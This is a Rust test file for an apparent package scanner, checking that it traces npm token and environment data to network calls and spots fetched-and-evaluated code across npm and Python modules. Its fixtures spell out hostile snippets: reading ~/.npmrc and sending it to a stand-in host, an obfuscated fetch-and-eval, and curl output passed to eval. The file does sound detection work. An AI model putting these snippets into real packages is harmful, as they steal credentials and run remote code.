use crate::flow::testing::{MANIFEST, found, is_remote_code};
use crate::unpack::{Entry, text_file as file};
use crate::{evidence, inspect_tree};
use customs_model::{Flow, SinkKind, SourceKind};

/// What a module of npm reads: a token.
const TOKEN: &str = r#"require("fs").readFileSync(require("os").homedir() + "/.npmrc")"#;

/// A package of npm whose script `i.js` runs when it is installed, with a module beside it.
fn npm(a: &str, i: &str) -> Vec<Entry> {
    vec![
        file("package/package.json", MANIFEST),
        file("package/a.js", a),
        file(
            "package/b.js",
            &format!("exports.t = {TOKEN}; exports.o = Date.now()"),
        ),
        file("package/i.js", i),
    ]
}

/// A wheel of a package with a module.
fn wheel(a: &str, init: &str) -> Vec<Entry> {
    vec![
        file("p/__init__.py", init),
        file("p/a.py", a),
        file(
            "p/b.py",
            "import os\nT = open(os.path.expanduser('~/.npmrc')).read()\n",
        ),
        file("p-1.0.dist-info/METADATA", "Name: p\nVersion: 1.0\n"),
    ]
}

fn is_theft(flow: &Flow) -> bool {
    flow.source == SourceKind::CredentialFile && flow.sink == SinkKind::Network
}

fn steals(entries: Vec<Entry>) -> bool {
    found(entries).flows.iter().any(is_theft)
}

/// Whether `expression` of a script is the token, where a module beside it is this.
fn is_token(a: &str, expression: &str) -> bool {
    let a = a.replace("TOKEN", TOKEN);
    steals(npm(
        &a,
        &format!("fetch('https://c.invalid/?' + {expression})"),
    ))
}

fn is_token_of_python(a: &str, import: &str, expression: &str) -> bool {
    let read = "open(__import__('os').path.expanduser('~/.npmrc')).read()";
    let init = format!(
        "import urllib.request\n{import}\nurllib.request.urlopen('https://c.invalid/?' + {expression})\n"
    );
    steals(wheel(&a.replace("TOKEN", read), &init))
}

#[test]
fn what_a_module_reads_is_what_the_importer_sends() {
    for (a, expression) in [
        ("module.exports = TOKEN", "require('./a')"),
        ("exports.t = TOKEN", "require('./a').t"),
        ("exports['t'] = TOKEN", "require('./a')['t']"),
        ("module.exports = { t: TOKEN }", "require('./a').t"),
        (
            "module.exports = { t: TOKEN }",
            "JSON.stringify(require('./a'))",
        ),
        (
            "const e = module.exports = {}; e.t = TOKEN",
            "require('./a').t",
        ),
        (
            "const api = {}; api.t = TOKEN; module.exports = api",
            "require('./a').t",
        ),
        (
            "function set() { exports.t = TOKEN } set()",
            "require('./a').t",
        ),
        (
            "class C { static T = TOKEN } exports.C = C",
            "require('./a').C.T",
        ),
        (
            "Object.defineProperty(exports, 't', { get: function () { return b.t } }); \
             const b = require('./b')",
            "require('./a').t",
        ),
    ] {
        assert!(is_token(a, expression), "{a}");
    }
}

#[test]
fn what_is_handed_on_is_what_it_was() {
    for a in [
        "module.exports = require('./b')",
        "Object.assign(exports, require('./b'))",
        "exports.t = require('./b').t",
        "module.exports = { ...require('./b') }",
        "export * from './b.js'",
        "export { t } from './b.js'",
    ] {
        assert!(is_token(a, "require('./a').t"), "{a}");
    }
    assert!(is_token("exports.b = require('./b')", "require('./a').b.t"));
}

#[test]
fn modules_that_export_are_asked_by_name() {
    let a = format!("export const t = {TOKEN}; export const o = Date.now()");
    let sends = |code: &str| steals(npm(&a, code));
    assert!(sends(
        "import { t } from './a.js'; fetch('https://c.invalid/?' + t)"
    ));
    assert!(sends(
        "import * as a from './a.js'; fetch('https://c.invalid/?' + a.t)"
    ));
    assert!(sends(
        "import('./a.js').then(({ t }) => fetch('https://c.invalid/?' + t))"
    ));
    assert!(!sends(
        "import { o } from './a.js'; fetch('https://c.invalid/?' + o)"
    ));
    assert!(!sends(
        "import * as a from './a.js'; fetch('https://c.invalid/?' + a.o)"
    ));
    assert!(!sends(
        "import('./a.js').then(({ o }) => fetch('https://c.invalid/?' + o))"
    ));
}

#[test]
fn what_else_a_module_hands_out_is_nothing_of_it() {
    for (a, expression) in [
        (
            "exports.t = TOKEN; exports.o = Date.now()",
            "require('./a').o",
        ),
        (
            "module.exports = { t: TOKEN, o: Date.now() }",
            "require('./a').o",
        ),
        ("exports.t = TOKEN", "require('./a').none"),
        (
            "exports.t = TOKEN; exports.f = require('z').f",
            "require('./a').f(1)",
        ),
        // It is never run.
        ("function set() { exports.t = TOKEN }", "require('./a').t"),
        // Nobody loads it.
        ("exports.t = TOKEN", "require('./c').t"),
        ("module.exports = require('./b')", "require('./a').o"),
    ] {
        assert!(!is_token(a, expression), "{a}");
    }
}

#[test]
fn an_object_that_is_made_with_the_environment_is_not_all_of_it() {
    let sends = |a: &str, expression: &str| {
        let code = format!("fetch('https://c.invalid/', {{ method: 'POST', body: {expression} }})");
        let flows = found(npm(a, &code)).flows;
        let mut flows = flows.iter().filter(|flow| flow.sink == SinkKind::Network);
        flows.any(|flow| flow.source == SourceKind::Environment)
    };
    let copy = "exports.e = Object.assign({}, process.env)";
    assert!(sends(copy, "JSON.stringify(require('./a').e)"));
    assert!(!sends(copy, "require('./a').e.NODE_ENV"));
    let made = "module.exports = require('z')(process.env)";
    assert!(!sends(made, "require('./a').address"));
}

#[test]
fn modules_that_hand_on_to_each_other_come_to_an_end() {
    let a = "const b = require('./a'); exports.t = b.u; exports.u = b.t; module.exports.v = b";
    assert!(!is_token(a, "require('./a').v.v.v.t"));
}

#[test]
fn python_has_the_variables_of_its_modules() {
    for (a, import, expression) in [
        ("T = TOKEN", "from .a import T", "T"),
        ("T = TOKEN", "from . import a", "a.T"),
        ("T = TOKEN", "import p.a", "p.a.T"),
        ("T = TOKEN", "from .a import *", "T"),
        (
            "T = ''\ntry:\n    T = TOKEN\nexcept OSError:\n    pass",
            "from .a import T",
            "T",
        ),
        ("class C:\n    T = TOKEN", "from .a import C", "C.T"),
        ("C = {}\nC['t'] = TOKEN", "from .a import C", "C['t']"),
        ("from .b import T", "from .a import T", "T"),
        ("from .b import *", "from . import a", "a.T"),
    ] {
        assert!(is_token_of_python(a, import, expression), "{a}\n{import}");
    }
}

#[test]
fn other_variables_of_a_module_of_python_are_nothing_of_it() {
    for (a, import, expression) in [
        (
            "import time\nT = TOKEN\nO = time.time()",
            "from .a import O",
            "str(O)",
        ),
        (
            "import time\nT = TOKEN\nO = time.time()",
            "from . import a",
            "str(a.O)",
        ),
        (
            "import time\nclass C:\n    T = TOKEN\n    O = time.time()",
            "from .a import C",
            "str(C.O)",
        ),
        (
            "import time\nC = {}\nC['t'] = TOKEN\nC['o'] = time.time()",
            "from .a import C",
            "str(C['o'])",
        ),
    ] {
        assert!(!is_token_of_python(a, import, expression), "{a}\n{import}");
    }
}

#[test]
fn the_way_over_two_files_is_shown_and_checked_without_the_engine() {
    let tree = crate::unpack::Tree {
        entries: npm(
            "export { t } from './b.js'",
            "import { t } from './a.js';\nfetch('https://c.invalid/?' + t);\n",
        ),
        ..crate::unpack::Tree::default()
    };
    let found = inspect_tree(&tree);
    let mut path = found
        .flows
        .iter()
        .find(|flow| is_theft(flow))
        .unwrap()
        .path
        .clone();
    evidence::certify(&mut path, &tree);
    let words: Vec<&str> = path.iter().map(|hop| hop.what.as_str()).collect();
    assert!(words.contains(&"is handed out by b.js"), "{words:?}");
    let checked = evidence::check(&path, &tree).unwrap();
    assert!(checked.unshown.is_empty(), "{checked:?}");
}

#[test]
fn a_text_that_another_file_puts_together_is_read_to_its_end() {
    // Every second letter counts; it is too much for a glance.
    let code = "require('http').get('http://c.invalid/n', r => r.on('data', d => eval(String(d))))";
    let noisy: String = code.chars().flat_map(|letter| [letter, '_']).collect();
    let a = format!(
        "const code = `{noisy}`.split('').filter((_, i) => i % 2 === 0).join(''); \
         module.exports = {{ code }}"
    );
    let i = "const { code } = require('./a'); new Function('require', code)(require)";
    let flows = found(npm(&a, i)).flows;
    assert!(flows.iter().any(is_remote_code));
}

#[test]
fn a_part_of_an_object_is_found_and_a_method_of_data_gives_the_data() {
    let run = |call: &str, a: &str| {
        let text = "require('child_process').execSync('curl https://c.invalid/b').toString()";
        let entries = npm(
            &a.replace("TEXT", text),
            &format!("const a = require('./a'); require('./c')(a); eval({call})"),
        );
        let found = found(entries);
        found.flows.iter().any(is_remote_code)
    };
    let object = "const api = { o: 1 }; for (const k of Object.keys(api)) { api[k] = TEXT } module.exports = api";
    assert!(run("a.o", object));
    assert!(run("a.trim()", "module.exports = TEXT"));
}
